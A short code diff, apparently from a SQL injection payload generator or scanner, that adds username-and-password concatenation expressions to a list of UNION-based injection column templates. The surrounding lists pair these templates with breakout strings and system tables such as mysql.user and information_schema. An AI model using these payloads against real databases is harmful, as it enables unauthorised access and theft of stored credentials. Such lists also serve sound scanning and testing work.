@@ -20,7 +20,8 @@ CONTEXTS = (
     ("x%'", "'"), ("1", ""), ("1)", ""), ("-1", ""), ("0", ""), ("9999", ""),
 )
 COLUMNS = ("NULL", "NULL,NULL", "NULL,NULL,NULL", "1,2,3", "@@version,NULL", "user(),database()",
-           "version(),current_user", "username,password", "table_name,column_name", "1,CHAR(113,118)")
+           "version(),current_user", "username,password", "table_name,column_name", "1,CHAR(113,118)",
+           "username||'~'||password", "name+':'+pass,NULL")
 SOURCES = ("", "§FROM§users", "§FROM§information_schema.tables", "§FROM§information_schema.columns",
            "§FROM§mysql.user", "§FROM§pg_catalog.pg_tables", "§FROM§sqlite_master", "§FROM§dual",
            "§FROM§master..sysdatabases")
